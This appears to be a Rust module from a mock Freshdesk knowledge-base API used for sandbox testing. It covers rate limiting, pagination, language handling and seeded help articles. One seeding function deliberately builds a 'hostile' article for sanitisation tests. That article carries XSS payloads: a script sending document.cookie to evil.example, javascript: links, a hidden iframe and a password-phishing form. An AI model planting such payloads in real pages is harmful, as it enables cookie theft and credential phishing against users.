/// then the route; the rate-limit headers go on every answer but the 429.
pub(crate) fn handle(
    route: KbRoute,
    state: &SandboxState,
    sub: &str,
    req: &ProviderRequest,
) -> Response {
    let usage = match admit(state, sub) {
        Ok(usage) => usage,
        Err(refused) => return refused,
    };
    let response = match support::authenticate(state, sub, req) {
        None => support::unauthorized(),
        Some(account) if route != KbRoute::SettingsHelpdesk && denied(state, sub, account.id) => {
            access_denied()
        }
        Some(_) => answer(route, state, sub, req).unwrap_or_else(|refused| refused),
    };
    rate_headers(response, &usage)
}

fn denied(state: &SandboxState, sub: &str, agent_id: u64) -> bool {
    state
        .freshdesk_kb_store()
        .knobs
        .get(sub)
        .is_some_and(|k| k.denied_agents.contains(&agent_id))
}

/// Counts the request against the helpdesk's budget, or refuses it (a storm, or the budget
/// spent).
fn admit(state: &SandboxState, sub: &str) -> Result<Usage, Response> {
    let (per_minute, storm) = {
        let mut store = state.freshdesk_kb_store();
        let knobs = store.knobs_mut(sub);
        let storm = (knobs.throttle_left > 0).then_some(knobs.throttle_retry_after);
        knobs.throttle_left = knobs.throttle_left.saturating_sub(1);
        (knobs.per_minute, storm)
    };
    if let Some(retry_after) = storm {
        return Err(throttled(retry_after));
    }
    let policy = [Policy::fixed(
        LIMIT_POLICY,
        per_minute,
        Duration::from_secs(60),
    )];
    let key = format!("freshdesk.kb:{sub}");
    match state.with_limiter(|limiter| limiter.acquire(&key, &policy, Instant::now())) {
        Verdict::Allowed { usage } => Ok(usage.first().copied().unwrap_or(Usage {
            policy: LIMIT_POLICY,
            limit: per_minute,
            remaining: 0,
            reset_after: Duration::ZERO,
        })),
        Verdict::Denied { retry_after, .. } => {
            let secs = retry_after.as_secs() + u64::from(retry_after.subsec_nanos() > 0);
            Err(throttled(secs))
        }
    }
}

/// Freshdesk's 429: a JSON message and `Retry-After`, no `X-RateLimit-*`.
fn throttled(retry_after: u64) -> Response {
    let mut response = wire::json(
        StatusCode::TOO_MANY_REQUESTS,
        json!({ "message": RATE_LIMIT_MESSAGE }),
    );
    response
        .headers_mut()
        .insert(RETRY_AFTER, HeaderValue::from(retry_after.max(1)));
    response
}

fn rate_headers(mut response: Response, usage: &Usage) -> Response {
    let headers = response.headers_mut();
    headers.insert("x-ratelimit-total", HeaderValue::from(usage.limit));
    headers.insert("x-ratelimit-remaining", HeaderValue::from(usage.remaining));
    headers.insert("x-ratelimit-used-currentrequest", HeaderValue::from(1u64));
    headers.insert(
        "x-freshdesk-api-version",
        HeaderValue::from_static(API_VERSION),
    );
    response
}

/// The route's answer, built under the store's lock.
fn answer(
    route: KbRoute,
    state: &SandboxState,
    sub: &str,
    req: &ProviderRequest,
) -> Result<Response, Response> {
    let Some(path) = parse_path(&req.path) else {
        return Err(support::not_found(state, req));
    };
    let query: Vec<(String, String)> = req
        .query
        .as_deref()
        .map(|q| {
            url::form_urlencoded::parse(q.as_bytes())
                .map(|(k, v)| (k.into_owned(), v.into_owned()))
                .collect()
        })
        .unwrap_or_default();
    let paging = if route.is_list() {
        Some(paging(&query)?)
    } else {
        None
    };
    let store = state.freshdesk_kb_store();
    let empty;
    let desk = match store.desks.get(sub) {
        Some(desk) => desk,
        None => {
            empty = Desk::empty(DEFAULT_AGENT_ID);
            &empty
        }
    };
    if route == KbRoute::SettingsHelpdesk {
        return Ok(wire::json(
            StatusCode::OK,
            json!({
                "primary_language": desk.primary_language,
                "supported_languages": desk.languages,
                "portal_languages": desk.languages,
                "help_widget_languages": [],
            }),
        ));
    }
    let explicit = path.language.map(|l| check_language(desk, l)).transpose()?;
    let ctx = Ctx {
        desk,
        language: explicit.unwrap_or(desk.primary_language.as_str()),
        explicit: explicit.is_some(),
    };
    let id = path.id.unwrap_or(0);
    match route {
        KbRoute::SettingsHelpdesk => Err(head_404()),
        KbRoute::Categories => {
            let items = desk
                .categories
                .iter()
                .filter(|c| c.texts.contains_key(ctx.language))
                .collect();
            Ok(page_of(items, paging, req, &query, |c| {
                ctx.category_json(c)
            }))
        }
        KbRoute::Category => {
            let category = desk.category(id).ok_or_else(head_404)?;
            ctx.texts(&category.texts)?;
            Ok(wire::json(StatusCode::OK, ctx.category_json(category)))
        }
        KbRoute::CategoryFolders => {
            let category = desk.category(id).ok_or_else(head_404)?;
            ctx.texts(&category.texts)?;
            let items = desk
                .folders
                .iter()
                .filter(|f| f.category_id == id && f.texts.contains_key(ctx.language))
                .collect();
            Ok(page_of(items, paging, req, &query, |f| {
                ctx.folder_json(f, false)
            }))
        }
        KbRoute::Folder => {
            let folder = desk.folder(id).ok_or_else(head_404)?;
            ctx.texts(&folder.texts)?;
            Ok(wire::json(StatusCode::OK, ctx.folder_json(folder, true)))
        }
        KbRoute::FolderArticles => {
            let folder = desk.folder(id).ok_or_else(head_404)?;
            ctx.texts(&folder.texts)?;
            let mut items: Vec<(&FdArticle, &FdTranslation)> = desk
                .articles
                .values()
                .filter(|a| !a.deleted && a.folder_id == id)
                .filter_map(|a| a.translation(ctx.language).map(|t| (a, t)))
                .collect();
            items.sort_by_key(|(a, _)| (a.position, a.id));
            Ok(page_of(items, paging, req, &query, |(a, t)| {
                ctx.article_json(a, t)
            }))
        }
        KbRoute::Article => {
            let article = desk
                .articles
                .get(&id)
                .filter(|a| !a.deleted)
                .ok_or_else(head_404)?;
            let shown = article.translation(ctx.language).ok_or_else(head_404)?;
            Ok(wire::json(StatusCode::OK, ctx.article_json(article, shown)))
        }
    }
}

/// A `{language_code}` the helpdesk serves, else Freshdesk's 404.
fn check_language<'a>(desk: &Desk, raw: &'a str) -> Result<&'a str, Response> {
    if !desk.multilingual() {
        return Err(wire::json(
            StatusCode::NOT_FOUND,
            json!({
                "code": "require_feature",
                "message": "The MultilingualFeature feature(s) is/are not supported in your plan. Please upgrade your account to use it.",
            }),
        ));
    }
    if desk.allows(raw) {
        return Ok(raw);
    }
    let mut allowed: Vec<&str> = desk.languages.iter().map(String::as_str).collect();
    allowed.push(&desk.primary_language);
    allowed.sort_unstable();
    Err(wire::json(
        StatusCode::NOT_FOUND,
        json!({
            "code": "language_not_allowed",
            "message": format!("Language code '{raw}' is not allowed. Allowed language codes: {}", allowed.join(", ")),
        }),
    ))
}

/// `page` and `per_page`, validated as Freshdesk's `FilterValidation` does; any other
/// parameter is an invalid field.
fn paging(query: &[(String, String)]) -> Result<(u64, u64), Response> {
    let mut errors = Vec::new();
    let mut seen = BTreeSet::new();
    for (key, _) in query {
        if key != "page" && key != "per_page" && seen.insert(key.as_str()) {
            errors.push(json!({
                "field": key,
                "message": "Unexpected/invalid field in request",
                "code": "invalid_field",
            }));
        }
    }
    let value = |name: &str| {
        query
            .iter()
            .rev()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.trim())
    };
    let positive = |raw: &str| raw.parse::<u64>().ok().filter(|n| *n >= 1);
    let page = match value("page") {
        None => Some(1),
        Some(raw) => positive(raw),
    };
    let per_page = match value("per_page") {
        None => Some(DEFAULT_PER_PAGE),
        Some(raw) => positive(raw).filter(|n| *n <= MAX_PER_PAGE),
    };
    if page.is_none() {
        errors.push(json!({
            "field": "page",
            "message": "It should be a Positive Integer",
            "code": "invalid_value",
        }));
    }
    if per_page.is_none() {
        errors.push(json!({
            "field": "per_page",
            "message": format!("It should be a Positive Integer less than or equal to {MAX_PER_PAGE}"),
            "code": "invalid_value",
        }));
    }
    match (page, per_page) {
        (Some(page), Some(per_page)) if errors.is_empty() => Ok((page, per_page)),
        _ => Err(wire::json(
            StatusCode::BAD_REQUEST,
            json!({"description": "Validation failed", "errors": errors}),
        )),
    }
}

/// One page of `items` as a bare JSON array, with the `Link` header while more remain.
fn page_of<T>(
    items: Vec<T>,
    paging: Option<(u64, u64)>,
    req: &ProviderRequest,
    query: &[(String, String)],
    render: impl Fn(T) -> Value,
) -> Response {
    let (page, per_page) = paging.unwrap_or((1, DEFAULT_PER_PAGE));
    let start = usize::try_from((page - 1).saturating_mul(per_page)).unwrap_or(usize::MAX);
    let take = usize::try_from(per_page).unwrap_or(usize::MAX);
    let more = items.len() > start.saturating_add(take);
    let body: Vec<Value> = items
        .into_iter()
        .skip(start)
        .take(take)
        .map(render)
        .collect();
    let mut response = wire::json(StatusCode::OK, Value::Array(body));
    if more {
        let link = next_link(req, query, page + 1);
        if let Ok(value) = HeaderValue::from_str(&link) {
            response.headers_mut().insert(LINK, value);
        }
    }
    response
}

/// `<https://{host}{path}?{query with page=next}>; rel="next"`: the request's parameters in
/// their order with `page` replaced, or appended.
fn next_link(req: &ProviderRequest, query: &[(String, String)], next: u64) -> String {
    let mut pairs: Vec<(String, String)> = Vec::new();
    for (k, v) in query {
        match pairs.iter_mut().find(|(seen, _)| seen == k) {
            Some(slot) => slot.1.clone_from(v),
            None => pairs.push((k.clone(), v.clone())),
        }
    }
    match pairs.iter_mut().find(|(k, _)| k == "page") {
        Some(slot) => slot.1 = next.to_string(),
        None => pairs.push(("page".to_owned(), next.to_string())),
    }
    let query = pairs
        .iter()
        .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
        .collect::<Vec<_>>()
        .join("&");
    format!("<https://{}{}?{query}>; rel=\"next\"", req.host, req.path)
}

fn encode(raw: &str) -> String {
    url::form_urlencoded::byte_serialize(raw.as_bytes()).collect()
}

/// One request's view of a knowledge base: the language shown.
struct Ctx<'a> {
    desk: &'a Desk,
    language: &'a str,
    /// Whether the path named the language (metrics are then that version's own).
    explicit: bool,
}

impl Ctx<'_> {
    /// The name and description in the shown language, else 404 (untranslated).
    fn texts<'t>(&self, texts: &'t Texts) -> Result<&'t (String, String), Response> {
        texts.get(self.language).ok_or_else(head_404)
    }

    fn name_of(&self, texts: &Texts) -> String {
        texts
            .get(self.language)
            .or_else(|| texts.get(&self.desk.primary_language))
            .map(|(n, _)| n.clone())
            .unwrap_or_default()
    }

    fn category_json(&self, c: &Category) -> Value {
        let (name, description) = self.texts(&c.texts).cloned().unwrap_or_default();
        json!({
            "id": c.id,
            "name": name,
            "description": blank_null(&description),
            "created_at": iso(c.created_at),
            "updated_at": iso(c.updated_at),
        })
    }

    fn hierarchy(&self, category_id: u64, folder_id: u64) -> Value {
        let category = self.desk.category(category_id);
        let folder = self.desk.folder(folder_id);
        json!([
            {"level": 0, "type": "category", "data": {
                "id": category_id,
                "name": category.map(|c| self.name_of(&c.texts)),
                "language": self.language,
            }},
            {"level": 1, "type": "folder", "data": {
                "id": folder_id,
                "name": folder.map(|f| self.name_of(&f.texts)),
                "language": self.language,
            }},
        ])
    }

    fn folder_json(&self, f: &Folder, show: bool) -> Value {
        let (name, description) = self.texts(&f.texts).cloned().unwrap_or_default();
        let articles = self
            .desk
            .articles
            .values()
            .filter(|a| !a.deleted && a.folder_id == f.id && a.translation(self.language).is_some())
            .count();
        let mut value = json!({
            "id": f.id,
            "name": name,
            "description": blank_null(&description),
            "visibility": 1,
            "hierarchy": self.hierarchy(f.category_id, f.id),
            "articles_count": articles,
            "sub_folders_count": 0,
            "created_at": iso(f.created_at),
            "updated_at": iso(f.updated_at),
        });
        if show && let Some(object) = value.as_object_mut() {
            object.insert("category_id".to_owned(), json!(f.category_id));
        }
        value
    }

    fn article_json(&self, a: &FdArticle, shown: &FdTranslation) -> Value {
        let (up, down, hits) = if self.explicit {
            (shown.thumbs_up, shown.thumbs_down, shown.hits)
        } else {
            a.translations.iter().fold((0, 0, 0), |(u, d, h), t| {
                (u + t.thumbs_up, d + t.thumbs_down, h + t.hits)
            })
        };
        json!({
            "id": a.id,
            "type": a.art_type,
            "category_id": a.category_id,
            "folder_id": a.folder_id,
            "hierarchy": self.hierarchy(a.category_id, a.folder_id),
            "thumbs_up": up,
            "thumbs_down": down,
            "hits": hits,
            "feedback_count": 0,
            "seo_data": a.seo_data,
            "tags": a.tags,
            "agent_id": a.agent_id,
            "title": shown.title,
            "description": shown.description,
            "description_text": shown.description_text,
            "status": shown.status,
            "attachments": [],
            "cloud_files": [],
            "created_at": iso(shown.created_at),
            "updated_at": iso(shown.updated_at),
        })
    }
}

fn blank_null(text: &str) -> Value {
    if text.is_empty() {
        Value::Null
    } else {
        json!(text)
    }
}

/// 404 with an empty body, as Freshdesk's `head 404` for a missing record.
fn head_404() -> Response {
    (StatusCode::NOT_FOUND, Body::empty()).into_response()
}

/// 403 for an agent without the "View solutions" privilege.
fn access_denied() -> Response {
    wire::json(
        StatusCode::FORBIDDEN,
        json!({
            "code": "access_denied",
            "message": "You are not authorized to perform this action.",
        }),
    )
}

// ---------------------------------------------------------------------------------------
// Formatting
// ---------------------------------------------------------------------------------------

/// Epoch seconds as Freshdesk prints times: `2024-01-15T09:00:00Z`.
fn iso(secs: i64) -> String {
    let days = secs.div_euclid(86_400);
    let rem = secs.rem_euclid(86_400);
    let (y, m, d) = clock::civil_from_days(days);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}Z",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

/// HTML as plain text (`description_text`): tags dropped (with the content of `script` and
/// `style`), a line break after block elements, the common entities decoded.
fn html_to_text(html: &str) -> String {
    const BLOCKS: [&str; 12] = [
        "p", "/p", "br", "br/", "/h1", "/h2", "/h3", "/h4", "/li", "/pre", "/div", "/tr",
    ];
    let mut out = String::with_capacity(html.len() / 2);
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        let Some(close) = after.find('>') else {
            rest = "";
            break;
        };
        let tag = after[..close].trim().to_ascii_lowercase();
        let name = tag
            .split(|c: char| c.is_whitespace())
            .next()
            .unwrap_or_default();
        rest = &after[close + 1..];
        if name == "script" || name == "style" {
            let end = format!("</{name}");
            match rest.to_ascii_lowercase().find(&end) {
                Some(at) => {
                    rest = &rest[at..];
                    rest = rest.find('>').map_or("", |gt| &rest[gt + 1..]);
                }
                None => rest = "",
            }
        } else if BLOCKS.contains(&name) && !out.ends_with('\n') && !out.is_empty() {
            out.push('\n');
        }
    }
    out.push_str(rest);
    let decoded = out
        .replace("&nbsp;", " ")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&");
    decoded.trim().to_owned()
}

fn escape_html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            c => out.push(c),
        }
    }
    out
}

// ---------------------------------------------------------------------------------------
// Seeding
// ---------------------------------------------------------------------------------------

/// SplitMix64: a deterministic spread of `x`.
fn mix(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// `mix(x) % n` as an index (`n` > 0).
fn pick(x: u64, n: usize) -> usize {
    (mix(x) % n.max(1) as u64) as usize
}

/// 0 English, 1 German, 2 French.
fn lang(language: &str) -> usize {
    match language.split('-').next() {
        Some("de") => 1,
        Some("fr") => 2,
        _ => 0,
    }
}

/// `entry` in `language` (English marked with the code when there is no text for it).
fn localized(entry: &[&str; 3], language: &str, primary: &str) -> String {
    match lang(language) {
        0 if language != primary && !language.starts_with("en") => {
            format!("{} ({language})", entry[0])
        }
        n => entry[n].to_owned(),
    }
}

const CATEGORY_NAMES: [[&str; 3]; 6] = [
    ["Getting started", "Erste Schritte", "Premiers pas"],
    [
        "Billing and payments",
        "Abrechnung und Zahlungen",
        "Facturation et paiements",
    ],
    [
        "Account and security",
        "Konto und Sicherheit",
        "Compte et sécurité",
    ],
    ["Integrations", "Integrationen", "Intégrations"],
    ["Troubleshooting", "Fehlerbehebung", "Dépannage"],
    ["Administration", "Verwaltung", "Administration"],
];

const FOLDER_NAMES: [[&str; 3]; 8] = [
    ["Invoices", "Rechnungen", "Factures"],
    ["Passwords", "Passwörter", "Mots de passe"],
    [
        "Single sign-on",
        "Single Sign-On",
        "Authentification unique",
    ],
    ["Mobile app", "Mobile App", "Application mobile"],
    ["Reports", "Berichte", "Rapports"],
    ["Notifications", "Benachrichtigungen", "Notifications"],
    ["API access", "API-Zugriff", "Accès à l'API"],
    ["Team members", "Teammitglieder", "Membres de l'équipe"],
];

const DESCRIPTIONS: [&str; 3] = [
    "Articles about {}.",
    "Artikel zum Thema {}.",
    "Articles sur le thème {}.",
];

const TASKS: [[&str; 3]; 7] = [
    ["Setting up", "Einrichten von", "Configurer"],
    ["Troubleshooting", "Fehlerbehebung bei", "Dépanner"],
    ["Understanding", "Grundlagen zu", "Comprendre"],
    ["Exporting", "Exportieren von", "Exporter"],
    ["Sharing", "Freigeben von", "Partager"],
    ["Securing", "Absichern von", "Sécuriser"],
    ["Automating", "Automatisieren von", "Automatiser"],
];

const OBJECTS: [[&str; 3]; 9] = [
    ["invoices", "Rechnungen", "les factures"],
    ["user roles", "Benutzerrollen", "les rôles utilisateur"],
    ["webhooks", "Webhooks", "les webhooks"],
    ["dashboards", "Dashboards", "les tableaux de bord"],
    [
        "email notifications",
        "E-Mail-Benachrichtigungen",
        "les notifications par e-mail",
    ],
    ["API keys", "API-Schlüsseln", "les clés d'API"],
    [
        "custom fields",
        "benutzerdefinierten Feldern",
        "les champs personnalisés",
    ],
    ["audit logs", "Audit-Logs", "les journaux d'audit"],
    ["SSO with SAML", "SSO mit SAML", "le SSO avec SAML"],
];

const HEADINGS: [[&str; 3]; 4] = [
    ["Overview", "Überblick", "Présentation"],
    [
        "Before you begin",
        "Bevor Sie beginnen",
        "Avant de commencer",
    ],
    ["Steps", "Schritte", "Étapes"],
    ["Related articles", "Verwandte Artikel", "Articles associés"],
];

const SENTENCES: [[&str; 8]; 3] = [
    [
        "This article explains what changes when you turn the feature on and who can use it.",
        "Only administrators can change these settings; agents see them as read-only.",
        "Changes take effect immediately for every member of your team.",
        "The export runs in the background and you receive an email when the file is ready.",
        "You can undo the change at any time from the same page.",
        "We recommend testing the setup in a sandbox account before you roll it out.",
        "Reports include activity from the last 90 days unless you pick another range.",
        "Contact support if the option is greyed out on your plan.",
    ],
    [
        "Dieser Artikel erklärt, was sich ändert, wenn Sie die Funktion aktivieren.",
        "Nur Administratoren können diese Einstellungen ändern.",
        "Änderungen gelten sofort für alle Mitglieder Ihres Teams.",
        "Der Export läuft im Hintergrund; Sie erhalten eine E-Mail, sobald die Datei bereit ist.",
        "Sie können die Änderung jederzeit auf derselben Seite rückgängig machen.",
        "Wir empfehlen, die Einrichtung zuerst in einem Testkonto zu prüfen.",
        "Berichte enthalten die Aktivitäten der letzten 90 Tage.",
        "Wenden Sie sich an den Support, wenn die Option in Ihrem Tarif ausgegraut ist.",
    ],
    [
        "Cet article explique ce qui change lorsque vous activez la fonctionnalité.",
        "Seuls les administrateurs peuvent modifier ces paramètres.",
        "Les modifications s'appliquent immédiatement à tous les membres de votre équipe.",
        "L'export s'exécute en arrière-plan et vous recevez un e-mail lorsque le fichier est prêt.",
        "Vous pouvez annuler la modification à tout moment depuis la même page.",
        "Nous vous recommandons de tester la configuration dans un compte de test.",
        "Les rapports incluent l'activité des 90 derniers jours.",
        "Contactez le support si l'option est grisée dans votre offre.",
    ],
];

const TAGS: [&str; 8] = [
    "billing",
    "account",
    "security",
    "api",
    "mobile",
    "integrations",
    "getting-started",
    "admin",
];

fn article_title(i: usize, language: &str, primary: &str) -> String {
    let l = lang(language);
    let text = format!(
        "{} {}",
        TASKS[i % TASKS.len()][l],
        OBJECTS[(i / TASKS.len()) % OBJECTS.len()][l],
    );
    let round = i / (TASKS.len() * OBJECTS.len());
    let text = if round > 0 {
        format!("{text} ({})", round + 1)
    } else {
        text
    };
    if l == 0 && language != primary && !language.starts_with("en") {
        format!("{text} [{language}]")
    } else {
        text
    }
}

/// Where a description links and what its image is.
struct BodyRefs<'a> {
    sub: &'a str,
    language: &'a str,
    attachment_id: u64,
    related_id: u64,
    title: &'a str,
}

/// A realistic description of about 3 KB: headings, paragraphs, lists, an image, links.
fn article_body(refs: &BodyRefs<'_>, x: u64) -> String {
    let l = lang(refs.language);
    let mut k = 0u64;
    let mut next = || {
        k += 1;
        SENTENCES[l][pick(x.wrapping_mul(131).wrapping_add(k), 8)]
    };
    let mut body = String::with_capacity(4096);
    let _ = write!(body, "<h2>{}</h2>", HEADINGS[0][l]);
    for _ in 0..3 {
        body.push_str("<p>");
        for _ in 0..4 {
            body.push_str(next());
            body.push(' ');
        }
        body.push_str("</p>");
    }
    let _ = write!(body, "<h3>{}</h3><ul>", HEADINGS[1][l]);
    for _ in 0..3 {
        let _ = write!(body, "<li>{}</li>", next());
    }
    let _ = write!(body, "</ul><h3>{}</h3><ol>", HEADINGS[2][l]);
    for step in 1..=4 {
        let _ = write!(body, "<li><strong>{step}.</strong> {}</li>", next());
    }
    body.push_str("</ol>");
    let _ = write!(
        body,
        "<p><img src=\"https://{}.freshdesk.com/helpdesk/attachments/{}\" alt=\"{}\" width=\"640\" height=\"360\"></p>",
        refs.sub,
        refs.attachment_id,
        escape_html(refs.title)
    );
    if x.is_multiple_of(5) {
        let _ = write!(
            body,
            "<pre><code>curl -u $API_KEY:X https://{}.freshdesk.com/api/v2/solutions/categories</code></pre>",
            refs.sub
        );
    }
    let _ = write!(
        body,
        "<h3>{}</h3><ul><li><a href=\"https://{}.freshdesk.com/support/solutions/articles/{}\">{}</a></li><li><a href=\"https://developer.example.com/docs/guides/{x}\" target=\"_blank\" rel=\"noopener\">Developer guide</a></li></ul>",
        HEADINGS[3][l], refs.sub, refs.related_id, HEADINGS[3][l],
    );
    body
}

/// A description over [`DYNAMODB_ITEM_LIMIT`]: an ordinary one followed by long appendices.
fn large_body(refs: &BodyRefs<'_>, x: u64) -> String {
    let l = lang(refs.language);
    let mut body = article_body(refs, x);
    let mut part = 0u64;
    while body.len() <= LARGE_BODY_BYTES {
        part += 1;
        let _ = write!(body, "<h3>Appendix {part}</h3><p>");
        for k in 0..8 {
            body.push_str(SENTENCES[l][pick(x ^ (part * 16 + k), 8)]);
            body.push(' ');
        }
        body.push_str("</p>");
    }
    body
}

/// An ordinary description with script, event handlers, `javascript:` links, an iframe and
/// a form mixed in: what an importer must sanitise.
fn hostile_body(refs: &BodyRefs<'_>, x: u64) -> String {
    let hostile = format!(
        concat!(
            "<p>If you are sent back to the sign-in page after signing in, clear your cookies first.</p>",
            "<script>fetch('https://evil.example/steal?c=' + encodeURIComponent(document.cookie))</script>",
            "<p><img src=\"https://{sub}.freshdesk.com/helpdesk/attachments/{att}\" alt=\"Sign-in page\" onerror=\"alert(document.domain)\"></p>",
            "<p>Still stuck? <a href=\"javascript:alert('xss')\">Open the troubleshooting assistant</a> or ",
            "<a href=\" JaVaScRiPt:void(document.location='https://evil.example')\">reset your session</a>.</p>",
            "<iframe src=\"https://evil.example/frame\" width=\"1\" height=\"1\"></iframe>",
            "<p onmouseover=\"alert(1)\" style=\"background-image:url(javascript:alert(2))\">Hover here for tips.</p>",
            "<svg><script>alert(3)</script></svg>",
            "<form action=\"https://evil.example/phish\"><input name=\"password\" type=\"password\"></form>",
        ),
        sub = refs.sub,
        att = refs.attachment_id,
    );
    hostile + &article_body(refs, x)
}

/// Which description an article gets.
#[derive(Clone, Copy, PartialEq, Eq)]
enum BodyKind {
    Ordinary,
    Large,
    Hostile,
}

/// A language code as seeded: trimmed, kept if it looks like one.
fn seed_language(raw: &str) -> Option<String> {
    let l = raw.trim();
    (language_segment(l) && l.len() <= 10).then(|| l.to_owned())
}

/// Builds the seeded knowledge base; also answers the large and hostile articles' ids.
fn build_desk(sub: &str, seed: &SolutionsSeed, agent_id: u64) -> (Desk, Option<u64>, Option<u64>) {
    let primary =
        seed_language(&seed.primary_language).unwrap_or_else(|| PRIMARY_LANGUAGE.to_owned());
    let mut languages: Vec<String> = Vec::new();
    for raw in &seed.languages {
        if let Some(l) = seed_language(raw)
            && l != primary
            && !languages.contains(&l)
        {
            languages.push(l);
        }
    }
    let all: Vec<String> = std::iter::once(primary.clone())
        .chain(languages.iter().cloned())
        .collect();
    let s = seed.seed;
    let mut desk = Desk {
        primary_language: primary.clone(),
        languages,
        ..Desk::empty(agent_id)
    };

    for c in 0..seed.categories.max(1) {
        let entry = &CATEGORY_NAMES[c % CATEGORY_NAMES.len()];
        let round = c / CATEGORY_NAMES.len();
        let texts = all
            .iter()
            .map(|l| {
                let mut name = localized(entry, l, &primary);
                if round > 0 {
                    let _ = write!(name, " {}", round + 1);
                }
                let description = DESCRIPTIONS[lang(l)].replace("{}", &name);
                (l.clone(), (name, description))
            })
            .collect();
        let created_at = SEED_EPOCH + c as i64 * 3600;
        desk.categories.push(Category {
            id: FIRST_CATEGORY_ID + c as u64,
            created_at,
            updated_at: created_at + 86_400,
            texts,
        });
    }
    let per_category = seed.folders_per_category.max(1);
    for (c, category) in desk.categories.iter().enumerate() {
        for p in 0..per_category {
            let f = c * per_category + p;
            let entry =
                &FOLDER_NAMES[(f + pick(s ^ 0xf01d, FOLDER_NAMES.len())) % FOLDER_NAMES.len()];
            let round = f / FOLDER_NAMES.len();
            let texts = all
                .iter()
                .map(|l| {
                    let mut name = localized(entry, l, &primary);
                    if round > 0 {
                        let _ = write!(name, " {}", round + 1);
                    }
                    let description = DESCRIPTIONS[lang(l)].replace("{}", &name);
                    (l.clone(), (name, description))
                })
                .collect();
            let created_at = category.created_at + 600 + p as i64 * 60;
            desk.folders.push(Folder {
                id: FIRST_FOLDER_ID + f as u64,
                category_id: category.id,
                created_at,
                updated_at: created_at + 86_400,
                texts,
            });
        }
    }

    let n = seed.articles;
    let large_index = seed.large_article.then_some(0).filter(|i| *i < n);
    let hostile_index = seed
        .hostile_article
        .then_some(usize::from(seed.large_article))
        .filter(|i| *i < n);
    let folders: Vec<(u64, u64)> = desk.folders.iter().map(|f| (f.id, f.category_id)).collect();
    let mut positions: BTreeMap<u64, u64> = BTreeMap::new();
    let thirty_days = 30 * 86_400;
    for i in 0..n {
        let x = i as u64;
        let id = FIRST_ARTICLE_ID + x;
        let kind = if Some(i) == large_index {
            BodyKind::Large
        } else if Some(i) == hostile_index {
            BodyKind::Hostile
        } else {
            BodyKind::Ordinary
        };
        let (folder_id, category_id) = folders
            .get(pick(s ^ x ^ 0x5ec7, folders.len()))
            .copied()
            .unwrap_or((FIRST_FOLDER_ID, FIRST_CATEGORY_ID));
        let position = {
            let slot = positions.entry(folder_id).or_insert(0);
            *slot += 1;
            *slot - 1
        };
        let draft = seed.draft_every > 0 && (i + 1).is_multiple_of(seed.draft_every);
        let translated = seed.translated_every > 0 && i.is_multiple_of(seed.translated_every);
        let created_at = SEED_EPOCH + 86_400 + i as i64 * 60;
        let mut tags: Vec<String> = Vec::new();
        for k in 0..(mix(s ^ x ^ 0x1abe) % 4) {
            let tag = TAGS[pick(x.wrapping_mul(7).wrapping_add(k) ^ s, TAGS.len())];
            if !tags.iter().any(|t| t == tag) {
                tags.push(tag.to_owned());
            }
        }
        let related_id = FIRST_ARTICLE_ID + (mix(s ^ x ^ 0x4e1a) % n as u64);
        let attachment_id = FIRST_ATTACHMENT_ID + x;
        let versions: Vec<&String> = if translated {
            all.iter().collect()
        } else {
            vec![&primary]
        };
        let mut translations = Vec::with_capacity(versions.len());
        for (v, language) in versions.into_iter().enumerate() {
            let title = match kind {
                BodyKind::Large => "Complete product reference (all settings)".to_owned(),
                BodyKind::Hostile => "Fixing sign-in loops & redirect errors".to_owned(),
                BodyKind::Ordinary => article_title(i, language, &primary),
            };
            let refs = BodyRefs {
                sub,
                language,
                attachment_id,
                related_id,
                title: &title,
            };
            let description = match kind {
                BodyKind::Large => large_body(&refs, x ^ s),
                BodyKind::Hostile => hostile_body(&refs, x ^ s),
                BodyKind::Ordinary => article_body(&refs, x ^ s),
            };
            let y = mix(s ^ x ^ ((v as u64) << 32));
            let version_created = created_at + v as i64 * 3_600;
            translations.push(FdTranslation {
                language: language.clone(),
                title,
                description_text: html_to_text(&description),
                description,
                status: if draft {
                    STATUS_DRAFT
                } else {
                    STATUS_PUBLISHED
                },
                thumbs_up: if draft { 0 } else { y % 40 },
                thumbs_down: if draft { 0 } else { (y >> 8) % 8 },
                hits: if draft { 0 } else { (y >> 16) % 5_000 },
                created_at: version_created,
                updated_at: version_created + ((y >> 24) % thirty_days) as i64,
            });
        }
        let mut seo_data = BTreeMap::new();
        if !mix(s ^ x ^ 0x5e0).is_multiple_of(4)
            && let Some(primary_version) = translations.first()
        {
            seo_data.insert("meta_title".to_owned(), primary_version.title.clone());
            seo_data.insert(
                "meta_description".to_owned(),
                primary_version
                    .description_text
                    .chars()
                    .take(150)
                    .collect::<String>(),
            );
            seo_data.insert("meta_keywords".to_owned(), tags.join(", "));
        }
        desk.articles.insert(
            id,
            FdArticle {
                id,
                folder_id,
                category_id,
                art_type: if mix(s ^ x ^ 0x7e9).is_multiple_of(7) {
                    2
                } else {
                    1
                },
                agent_id,
                position,
                tags,
                seo_data,
                deleted: false,
                translations,
            },
        );
    }
    desk.next_article_id = FIRST_ARTICLE_ID + n as u64;
    let large = large_index.map(|i| FIRST_ARTICLE_ID + i as u64);
    let hostile = hostile_index.map(|i| FIRST_ARTICLE_ID + i as u64);
    (desk, large, hostile)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use axum::body::Bytes;
    use axum::http::HeaderMap;
    use axum::http::header::{AUTHORIZATION, CONTENT_TYPE};
    use base64::Engine as _;
    use base64::engine::general_purpose::STANDARD;

    use super::*;

    const HOST: &str = "https://acme.freshdesk.com";

    fn api_key() -> String {
        format!("Basic {}", STANDARD.encode("fd-sandbox-key-0001:X"))
    }

